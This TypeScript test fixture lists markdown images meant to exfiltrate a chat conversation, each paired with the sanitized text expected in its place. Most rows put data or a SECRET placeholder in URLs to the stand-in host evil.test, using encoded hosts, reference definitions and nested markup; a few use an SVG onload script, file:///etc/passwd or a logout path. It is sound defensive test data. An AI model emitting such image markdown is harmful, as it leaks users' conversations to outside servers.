import { rowsOf, type AttackRow } from '../row.js'

/** Images that would carry the conversation away, in every place and spelling of markdown. */
export const fetchingImages: readonly AttackRow[] = rowsOf('fetching-image', [
  {
    name: 'an image with a query is its words and its host',
    unsafe: '![x](https://evil.test/?q=SECRET)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image without words is its host',
    unsafe: '![](https://evil.test/p.gif?d=aGVsbG8)',
    safe: '(evil.test)',
  },
  {
    name: 'an image in the clear is its host',
    unsafe: '![x](http://evil.test/i)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image without a scheme is its host',
    unsafe: '![x](//evil.test/i)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image with a port keeps the port in sight',
    unsafe: '![x](https://evil.test:8443/i)',
    safe: 'x (evil.test:8443)',
  },
  {
    name: 'an image with data in its path is its host',
    unsafe: '![logo](https://evil.test/SECRET/1x1.png)',
    safe: 'logo (evil.test)',
  },
  {
    name: 'an image with data in its name server is its whole host',
    unsafe: '![x](https://c2VjcmV0.evil.test/)',
    safe: 'x (c2vjcmv0.evil.test)',
  },
  {
    name: 'an image with data in its fragment is its host',
    unsafe: '![x](https://evil.test/#SECRET)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image with a title is its words',
    unsafe: '![x](https://evil.test/i "SECRET")',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image with a blank in its address is its host',
    unsafe: '![x](<https://evil.test/a b>)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image with an address in angle brackets is its host',
    unsafe: '![x](<https://evil.test/i>)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image with an escaped address is its host',
    unsafe: '![x](https\\://evil.test/i\\)a)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image with entities in its address is its host',
    unsafe: '![x](&#104;ttps&colon;//evil.test/i)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image with a percent-escaped host is its true host',
    unsafe: '![x](https://%65vil.test/i)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image with a host in full-width letters is its true host',
    unsafe: '![x](https://ｅｖｉｌ.test/i)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image with an ideographic full stop in its host is its true host',
    unsafe: '![x](https://evil。test/i)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image with a numeric host is the true number',
    unsafe: '![x](https://0x7f.1/i)',
    safe: 'x (127.0.0.1)',
  },
  {
    name: 'an image with a host of IPv6 is that host',
    unsafe: '![x](https://[::1]/i)',
    safe: 'x ([::1])',
  },
  {
    name: 'an image of a host with a name and a password is its words',
    unsafe: '![x](https://bank.example@evil.test/i)',
    safe: 'x',
  },
  {
    name: 'an image with a backslash is its words',
    unsafe: '![x](https:\\\\evil.test\\i)',
    safe: 'x',
  },
  {
    name: 'an image of one slash is its words and host',
    unsafe: '![x](https:/evil.test/i)',
    safe: 'x (evil.test)',
  },
  { name: 'an image of a relative path is its words', unsafe: '![x](i.png)', safe: 'x' },
  { name: 'an image of the app’s own path is its words', unsafe: '![x](/api/logout)', safe: 'x' },
  { name: 'an image of a parent’s path is its words', unsafe: '![x](../../../logout)', safe: 'x' },
  { name: 'an image of a query alone is its words', unsafe: '![x](?logout)', safe: 'x' },
  { name: 'an image of a fragment is its words', unsafe: '![x](#a)', safe: 'x' },
  { name: 'an image of nothing is its words', unsafe: '![x]()', safe: 'x' },
  {
    name: 'an image of SVG data is its words',
    unsafe: '![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)',
    safe: 'x',
  },
  {
    name: 'an image of PNG data is its words',
    unsafe: '![x](data:image/png;base64,iVBORw0KGgo=)',
    safe: 'x',
  },
  { name: 'an image of a file is its words', unsafe: '![x](file:///etc/passwd)', safe: 'x' },
  {
    name: 'an image of a network share is its words',
    unsafe: '![x](file://evil.test/share/i.png)',
    safe: 'x',
  },
  { name: 'an image of FTP is its words', unsafe: '![x](ftp://evil.test/i)', safe: 'x' },
  { name: 'an image of a blob is its words', unsafe: '![x](blob:https://evil.test/1)', safe: 'x' },
  {
    name: 'an image of an attachment id is its words',
    unsafe: '![x](cid:evil@evil.test)',
    safe: 'x',
  },
  {
    name: 'an image by reference is its words and host (CVE-2025-32711)',
    unsafe: '![x][r]\n\n[r]: https://evil.test/?q=SECRET',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image by a collapsed reference is its words and host',
    unsafe: '![r][]\n\n[r]: https://evil.test/',
    safe: 'r (evil.test)',
  },
  {
    name: 'an image by a shortcut reference is its words and host',
    unsafe: '![r]\n\n[r]: https://evil.test/',
    safe: 'r (evil.test)',
  },
  {
    name: 'an image by a reference defined before is its words and host',
    unsafe: '[r]: https://evil.test/\n\n![r]',
    safe: 'r (evil.test)',
  },
  {
    name: 'an image by a reference defined in a quote is its words and host',
    unsafe: '![x][r]\n\n> [r]: https://evil.test/',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image by a reference defined in a list is its words and host',
    unsafe: '![x][r]\n\n- [r]: https://evil.test/',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image by a reference defined in a footnote is its words and host',
    unsafe: '![x][r] a[^1]\n\n[^1]: b\n\n    [r]: https://evil.test/',
    safe: 'x (evil.test) a1 Footnotes b ↩',
  },
  {
    name: 'an image by a label in other letters is its words and host',
    unsafe: '![x][ẞ]\n\n[SS]: https://evil.test/',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image by an escaped label is its words and host',
    unsafe: '![x][a\\]b]\n\n[a\\]b]: https://evil.test/',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image by a label over two lines is its words and host',
    unsafe: '![x][a\nb]\n\n[a b]: https://evil.test/',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image whose definition has its address on the next line is its words and host',
    unsafe: '![r]\n\n[r]:\nhttps://evil.test/',
    safe: 'r (evil.test)',
  },
  {
    name: 'an image with a title on the next line is its words and host',
    unsafe: '![r]\n\n[r]: https://evil.test/\n"SECRET"',
    safe: 'r (evil.test)',
  },
  {
    name: 'an image of the first of two definitions names the first',
    unsafe: '![r]\n\n[r]: https://one.test/\n[r]: https://two.test/',
    safe: 'r (one.test)',
  },
  {
    name: 'an image inside a link is its words and host',
    unsafe: '[![x](https://evil.test/i)](https://b.test/)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image inside an image’s words leaves its words',
    unsafe: '![a ![b](https://evil.test/b) c](https://evil.test/a)',
    safe: 'a b c (evil.test)',
  },
  {
    name: 'a link inside an image’s words leaves its words',
    unsafe: '![a [b](https://evil.test/b)](https://evil.test/a)',
    safe: 'a b (evil.test)',
  },
  {
    name: 'an image in a heading is its words and host',
    unsafe: '# ![x](https://evil.test/i)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image in a table is its words and host',
    unsafe: '|![x](https://evil.test/i)|\n|-|\n|![y](https://evil.test/j)|',
    safe: 'x (evil.test) y (evil.test)',
  },
  {
    name: 'an image in a quote in a list is its words and host',
    unsafe: '- > ![x](https://evil.test/i)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image in emphasis is its words and host',
    unsafe: '***![x](https://evil.test/i)***',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image in a task is its words and host',
    unsafe: '- [x] ![x](https://evil.test/i)',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image in a footnote is its words and host',
    unsafe: 'a[^1]\n\n[^1]: ![x](https://evil.test/i)',
    safe: 'a1 Footnotes x (evil.test) ↩',
  },
  {
    name: 'an image in struck words is its words and host',
    unsafe: '~~![x](https://evil.test/i)~~',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image in details is its words and host',
    unsafe: '<details>\n\n![x](https://evil.test/i)\n\n</details>',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image in a keyboard tag is its words and host',
    unsafe: '<kbd>![x](https://evil.test/i)</kbd>',
    safe: 'x (evil.test)',
  },
  {
    name: 'an image over two lines is its words and host',
    unsafe: '![x\ny](\nhttps://evil.test/i\n)',
    safe: 'x y (evil.test)',
  },
  {
    name: 'two images that split a secret are two hosts',
    unsafe: '![](https://a.evil.test/)![](https://b.evil.test/)',
    safe: '(a.evil.test)(b.evil.test)',
  },
  {
    name: 'an image with formatted words keeps the words',
    unsafe: '![**a** `b` _c_](https://evil.test/i)',
    safe: 'a b c (evil.test)',
  },
  {
    name: 'an image too long to load is its words',
    unsafe: `![x](https://evil.test/${'a'.repeat(2_100)})`,
    safe: 'x',
  },
  {
    name: 'an image with a template for the secret is its host',
    unsafe: '![x](https://evil.test/%7B%7Bsecret%7D%7D?u=${user})',
    safe: 'x (evil.test)',
  },
])
